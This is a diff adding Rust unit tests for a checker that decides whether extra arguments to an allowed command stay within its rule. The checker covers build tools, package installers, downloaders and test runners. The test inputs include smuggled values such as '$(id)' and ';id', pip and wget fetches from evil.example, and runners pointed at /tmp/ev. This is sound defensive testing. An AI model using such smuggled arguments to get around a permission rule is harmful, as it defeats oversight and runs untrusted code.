@@ -122,3 +122,154 @@ fn harmful_calls_are_found() {
     }
     assert_eq!(wrong, Vec::<String>::new());
 }
+
+#[test]
+fn a_rule_for_one_target_or_package_means_no_other() {
+    let mut wrong = Vec::new();
+    for (line, expected) in [
+        ("make test : deploy", "Unlisted"),
+        ("make test : -k deploy", "Unlisted"),
+        ("make test : CI=1 -j4", "-"),
+        ("make CI=1 : test", "-"),
+        ("make : test deploy", "-"),
+        ("make : $(id)", "Code"),
+        ("just test : deploy", "Unlisted"),
+        ("just : test deploy", "-"),
+        ("just test : ;id", "Code"),
+        ("task test : deploy", "Unlisted"),
+        ("task test : -- -v", "-"),
+        ("task test : -- ;id", "Code"),
+        ("rake test : deploy", "Unlisted"),
+        ("rake : RUBYOPT=-r/tmp/x test", "Code"),
+        ("rake : test[a]", "-"),
+        ("ninja test : deploy", "Unlisted"),
+        ("mvn test : deploy", "Unlisted"),
+        ("mvn test : exec:exec", "Unlisted"),
+        ("mvn test : -q -ntp", "-"),
+        ("gradle test : publish", "Unlisted"),
+        ("./gradlew test : publish", "Unlisted"),
+        ("gradle test : --tests A --offline", "-"),
+        ("ant test : deploy", "Unlisted"),
+        ("sbt test : publish", "Unlisted"),
+        ("zig build test : deploy", "Unlisted"),
+        ("bazel test //a : //b", "Unlisted"),
+        ("bazel test : //a //b", "-"),
+        ("turbo run test : deploy", "Unlisted"),
+        ("turbo run : test", "-"),
+        ("nx run-many -t test : deploy", "Unlisted"),
+        ("nx test : web", "-"),
+        ("run-s test : deploy", "Unlisted"),
+        ("pip install -r requirements.txt : ./evil", "Unlisted"),
+        ("pip install -r requirements.txt : https://evil.example/x.whl", "Unlisted"),
+        ("pip install -r requirements.txt : -r evil.txt", "Unlisted"),
+        ("pip install -r requirements.txt : -revil.txt", "Unlisted"),
+        ("pip install -r requirements.txt : --requirement=evil.txt", "Unlisted"),
+        ("pip install -r requirements.txt : -c evil.txt", "Unlisted"),
+        ("pip install -r requirements.txt : -e ./evil", "Unlisted"),
+        ("pip install -r requirements.txt : --no-deps -q", "-"),
+        ("pip install requests : -r evil.txt", "Unlisted"),
+        ("pip install -r : requirements.txt", "-"),
+        ("pip install -r : requirements.txt -r evil.txt", "Unlisted"),
+        ("pip install : requests rich", "-"),
+        ("uv pip install -r requirements.txt : ./evil", "Unlisted"),
+        ("uv pip : install ./evil", "Changes"),
+        ("npm install lodash : evil", "Unlisted"),
+        ("npm install : lodash", "-"),
+        ("pnpm add lodash : evil", "Unlisted"),
+        ("yarn add lodash : evil", "Unlisted"),
+        ("yarn add : lodash react", "-"),
+        ("cargo install ripgrep : evil", "Unlisted"),
+        ("go install ./cmd/x : evil.example/x@latest", "Unlisted"),
+        ("apt install jq : evil", "Unlisted"),
+        ("brew install jq : evil", "Unlisted"),
+        ("gem install rake : evil", "Unlisted"),
+        ("poetry add requests : evil", "Unlisted"),
+        ("pipenv install requests : evil", "Unlisted"),
+        ("pipx install black : evil", "Unlisted"),
+        ("composer require a/b : evil/x", "Unlisted"),
+        ("wget https://a.example/x : https://evil.example/x", "Unlisted"),
+        ("wget https://a.example/x : -q", "-"),
+        ("wget : -q https://a.example/x https://b.example/x", "-"),
+        ("http GET : https://a.example/x", "-"),
+        ("http GET https://a.example/x : a=b", "Unlisted"),
+        ("http localhost:3000 : a=b", "Unlisted"),
+        ("aria2c https://a.example/x : https://evil.example/x", "Unlisted"),
+    ] {
+        let found = effect(line).unwrap_or_else(|| "-".to_owned());
+        if found != expected {
+            wrong.push(format!("{line} = {found}"));
+        }
+    }
+    assert_eq!(wrong, Vec::<String>::new());
+}
+
+#[test]
+fn a_flag_that_the_rule_names_is_not_revoked_by_the_word_behind_it() {
+    for (line, expected) in [
+        ("tsc --noEmit : false", Some("Unlisted")),
+        ("tsc --noEmit : null", Some("Unlisted")),
+        ("tsc --noEmit : --pretty --noEmit false", Some("Unlisted")),
+        ("tsc --noEmit : @options", Some("Reads")),
+        ("tsc --noEmit : src/false.ts", None),
+        ("tsc --noEmit : --pretty", None),
+        ("tsc : --noEmit false", None),
+        ("npm publish --dry-run : false", Some("Unlisted")),
+        ("npm publish --dry-run : . --dry-run false", Some("Unlisted")),
+        ("npm publish --dry-run : --no-dry-run", Some("Unlisted")),
+        ("jest --listTests : false", Some("Unlisted")),
+        ("npm test --silent : -- false", None),
+    ] {
+        assert_eq!(effect(line).as_deref(), expected, "{line}");
+    }
+}
+
+#[test]
+fn a_module_of_python_is_judged_as_the_program_that_it_is() {
+    for (line, expected) in [
+        ("python3 -m unittest : -v tests.test_a", None),
+        ("python3 -m unittest : discover -s tests -p test_*.py", None),
+        ("python3 -m unittest : discover -s /tmp/ev", Some("Code")),
+        ("python3 -m unittest : discover -s/tmp/ev", Some("Code")),
+        ("python3 -m unittest : discover --start-directory=../ev", Some("Code")),
+        ("python3 -m unittest : discover -s tests -t /tmp/ev", Some("Code")),
+        ("python3 -m unittest : discover /tmp/ev", Some("Code")),
+        ("python3 -m unittest : ../ev/test_a.py", Some("Code")),
+        ("python3 -m unittest : --other", Some("Unlisted")),
+        ("python3 -m unittest discover : -s /tmp/ev", Some("Code")),
+        ("python3 -m unittest discover -s : /tmp/ev", Some("Code")),
+        ("python3 -m pytest : -k name -q tests", None),
+        ("python3 -m pytest : /tmp/ev", Some("Code")),
+        ("python3 -m pytest : -p evil", Some("Runs")),
+        ("python3 -mpytest : ../ev", Some("Code")),
+        ("python3 -Bm pytest : ../ev", Some("Code")),
+        ("python3.12 -m pytest : tests --rootdir=/tmp/ev", Some("Reads")),
+        ("python3 -m black : . --config x", Some("Reads")),
+        ("python3 -m pip install -r requirements.txt : ./evil", Some("Unlisted")),
+        ("python3 -m pip : config set global.index-url x", Some("Changes")),
+        ("python3 : -m pytest", Some("Code")),
+    ] {
+        assert_eq!(effect(line).as_deref(), expected, "{line}");
+    }
+}
+
+#[test]
+fn a_runner_of_tests_runs_those_of_the_folder_alone() {
+    for (line, expected) in [
+        ("bun test : src --coverage", None),
+        ("bun test : /tmp/ev", Some("Code")),
+        ("mix test : test/a_test.exs:12", None),
+        ("mix test : /tmp/ev.exs", Some("Code")),
+        ("deno test : src --allow-read", None),
+        ("deno test : /tmp/ev.ts", Some("Code")),
+        ("deno test : -A", Some("Runs")),
+        ("deno : test", Some("Code")),
+        ("playwright : test e2e", None),
+        ("testcafe : chrome /tmp/ev.js", Some("Code")),
+        ("prove : -l t", None),
+        ("prove : ../ev.t", Some("Code")),
+        ("bats : /tmp/ev.bats", Some("Code")),
+        ("behave : ../ev", Some("Code")),
+    ] {
+        assert_eq!(effect(line).as_deref(), expected, "{line}");
+    }
+}
